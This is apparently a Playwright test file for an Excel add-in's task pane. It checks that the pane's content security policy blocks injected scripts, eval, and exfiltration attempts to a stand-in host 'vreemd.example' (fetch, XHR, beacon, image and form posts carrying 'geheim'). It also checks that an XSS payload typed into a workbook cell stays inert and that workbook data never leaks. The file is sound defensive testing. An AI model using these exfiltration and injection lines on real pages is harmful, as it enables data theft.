import path from 'node:path';
import type { Page } from 'playwright-core';
import { Bladzijden } from './openPagina';

const WERKMAP = path.join(__dirname, '../../assets/voorbeelden/twentse-koers-2024.xlsx');
const VREEMD = 'https://vreemd.example';

let bladzijden: Bladzijden;
beforeAll(async () => {
  bladzijden = await Bladzijden.open();
});
afterAll(() => bladzijden?.sluit());

const open = () => bladzijden.taakvenster(WERKMAP);

async function controleer(pagina: Page): Promise<void> {
  await pagina.getByRole('button', { name: /^(?:Controleer deze werkmap|Controleren|Opnieuw controleren)$/ }).click();
  await pagina.getByText(/^Gecontroleerd om/).waitFor();
}

/** What the policy says when this is tried in the page: the rules that were broken, until `regel` is. */
async function probeer(pagina: Page, code: string, regel: string): Promise<readonly string[]> {
  return pagina.evaluate(
    ([tekst, verwacht]) =>
      new Promise<string[]>((klaar) => {
        const gebroken: string[] = [];
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
          gebroken.push(effectiveDirective);
          if (effectiveDirective === verwacht) klaar(gebroken);
        });
        setTimeout(() => klaar(gebroken), 5_000);
        // Not by eval, which is one of the things to try.
        document.head.append(
          Object.assign(document.createElement('script'), { src: `taskpane/proef.js?${encodeURIComponent(tekst!)}` }),
        );
      }),
    [code, regel],
  );
}

const maak = (soort: string, eigenschappen: string) =>
  `document.body.append(Object.assign(document.createElement('${soort}'), ${eigenschappen}))`;

describe('what the policy of the pane does not allow', () => {
  let pagina: Page;
  /** What got as far as the network. */
  const bereikt: string[] = [];
  beforeAll(async () => {
    ({ pagina } = await open());
    await pagina.route('**/proef.js?*', (route) => {
      const body = decodeURIComponent(new URL(route.request().url()).search.slice(1));
      return route.fulfill({ contentType: 'text/javascript', body: `{${body}}` });
    });
    await pagina.route(`${VREEMD}/**`, (route) => {
      bereikt.push(route.request().url());
      return route.abort();
    });
    await pagina.getByRole('button', { name: 'Controleer deze werkmap' }).waitFor();
  });

  test.each([
    ['a script in the page', maak('script', "{ textContent: 'window.gelukt = 1' }"), 'script-src-elem'],
    [
      'a handler in the page',
      "document.body.insertAdjacentHTML('beforeend', '<i onclick=\"window.gelukt=1\">x</i>'); document.body.lastChild.click()",
      'script-src-attr',
    ],
    ['a script of someone else', maak('script', `{ src: '${VREEMD}/x.js' }`), 'script-src-elem'],
    [
      'a script in a link',
      "const a = Object.assign(document.createElement('a'), { href: 'javascript:window.gelukt=1' }); document.body.append(a); a.click()",
      'script-src-elem',
    ],
    ['eval', "try { (0, eval)('window.gelukt = 1') } catch {}", 'script-src'],
    ['a function from text', "try { new Function('window.gelukt = 1')() } catch {}", 'script-src'],
    ['a timer from text', "setTimeout('window.gelukt = 1')", 'script-src'],
    ['a worker from text', "try { new Worker(URL.createObjectURL(new Blob(['1']))) } catch {}", 'worker-src'],
    ['a request', `fetch('${VREEMD}/x').catch(() => 0)`, 'connect-src'],
    [
      'an XMLHttpRequest',
      `const x = new XMLHttpRequest(); x.open('POST', '${VREEMD}'); x.send('geheim')`,
      'connect-src',
    ],
    ['a WebSocket', "try { new WebSocket('wss://vreemd.example') } catch {}", 'connect-src'],
    ['an EventSource', `new EventSource('${VREEMD}')`, 'connect-src'],
    ['a beacon', `navigator.sendBeacon('${VREEMD}', 'geheim')`, 'connect-src'],
    ['a picture', maak('img', `{ src: '${VREEMD}/x.png?geheim' }`), 'img-src'],
    ['a picture in a style', maak('div', `{ textContent: 'x', style: 'background: url(${VREEMD}/x.png)' }`), 'img-src'],
    ['a style sheet', maak('link', `{ rel: 'stylesheet', href: '${VREEMD}/x.css' }`), 'style-src-elem'],
    ['a font', `new FontFace('x', 'url(${VREEMD}/x.woff2)').load().catch(() => 0)`, 'font-src'],
    ['a sound', maak('audio', `{ src: '${VREEMD}/x.mp3' }`), 'media-src'],
    ['a frame', maak('iframe', `{ src: '${VREEMD}' }`), 'frame-src'],
    ['a frame with a page of its own', maak('iframe', "{ src: 'data:text/html,x' }"), 'frame-src'],
    ['an object', maak('object', `{ data: '${VREEMD}/x' }`), 'object-src'],
    [
      'a form',
      `const f = Object.assign(document.createElement('form'), { action: '${VREEMD}', method: 'post' }); document.body.append(f); f.submit()`,
      'form-action',
    ],
    [
      'another base',
      `document.head.append(Object.assign(document.createElement('base'), { href: '${VREEMD}' }))`,
      'base-uri',
    ],
  ])('%s', async (_titel, code, regel) => {
    expect(await probeer(pagina, code, regel)).toContain(regel);
    expect(await pagina.evaluate('window.gelukt')).toBeUndefined();
    expect(bereikt).toEqual([]);
  });
});

test('the page of the functions starts within the same policy', async () => {
  const { pagina, klachten } = await bladzijden.taakvenster(WERKMAP, { bestand: 'functions.html' });
  await pagina.waitForFunction('typeof CustomFunctions === "object"');
  expect(klachten).toEqual([]);
  expect(await pagina.evaluate(`fetch('${VREEMD}').then(() => 'gelukt', () => 'geweigerd')`)).toBe('geweigerd');
});

describe('what stands in the workbook stays there', () => {
  const TEKST = 'Kanariepietje';
  const BEDRAG = '7654321';
  /** As a sheet, a file or a person would write it. */
  const SPOOR = /kanariepietje|7\.?654\.?321/i;

  test('whatever is done in the pane, and whatever goes wrong', async () => {
    const { pagina, naarBuiten } = await open();
    await pagina.evaluate(
      ([tekst, bedrag]) => {
        window.__host.typ('Ouderen!A7', `${tekst} <img src=x onerror=alert(1)>`);
        window.__host.typ('Ouderen!C7', Number(bedrag));
        window.__host.typ('Ouderen!F7', `De kosten van ${tekst} waren € ${bedrag}, door drukte.`);
      },
      [TEKST, BEDRAG],
    );
    const faal = (code: string, opties: object) =>
      pagina.evaluate(([c, o]) => window.__host.fout.volgende(c, o), [code, opties] as const);
    await controleer(pagina);
    await pagina.getByText(new RegExp(TEKST)).first().waitFor();
    for (const [code, opties] of [
      ['GeneralException', { keer: 9, bericht: `Ouderen!A7 ${TEKST}` }],
      ['InvalidOperationInCellEditMode', { keer: 9 }],
      ['AccessDenied', { keer: 9, status: 403, naActies: 1, bericht: TEKST }],
    ] as const) {
      await faal(code, opties);
      await pagina.getByRole('button', { name: 'Opnieuw controleren' }).click();
      await pagina.getByRole('button', { name: 'Stoppen' }).waitFor({ state: 'detached' });
      await pagina.evaluate(() => window.__host.fout.wis());
    }
    await controleer(pagina);
    for (const knop of await pagina.getByRole('button', { name: /^Herstellen…$/ }).all()) {
      await knop.click();
      const schrijf = pagina.getByRole('button', { name: /^Schrijf \d+ cel/ });
      await schrijf.first().waitFor();
      await faal('GeneralException', { keer: 9, bericht: `${TEKST} ${BEDRAG}` });
      await schrijf.first().click();
      await pagina.waitForTimeout(500);
      await pagina.evaluate(() => window.__host.fout.wis());
      break;
    }
    for (const tab of ['Regelingen', 'Toelichting', 'Instellingen', 'Controle']) {
      await pagina.getByRole('tab', { name: tab }).click();
      await pagina.locator('[role=tabpanel]:not([hidden]) > *').first().waitFor();
    }
    await pagina.getByText(new RegExp(TEKST)).first().waitFor();
    expect(naarBuiten).not.toEqual([]);
    expect(naarBuiten.filter((regel) => SPOOR.test(regel))).toEqual([]);
    const bewaard = await pagina.evaluate(async () => ({
      lokaal: JSON.stringify(localStorage),
      sessie: JSON.stringify(sessionStorage),
      koekjes: document.cookie,
      adres: decodeURIComponent(location.href),
      titel: document.title,
      naam: window.name,
      geschiedenis: JSON.stringify(history.state),
      databanken: (await indexedDB.databases()).map(({ name }) => name),
      caches: await caches.keys(),
      werkers: (await navigator.serviceWorker.getRegistrations()).length,
    }));
    expect(JSON.stringify(bewaard)).not.toMatch(SPOOR);
    expect(bewaard).toMatchObject({ koekjes: '', databanken: [], caches: [], werkers: 0 });
    // Text of the workbook made no element.
    expect(await pagina.locator('img[src=x]').count()).toBe(0);
  });
});
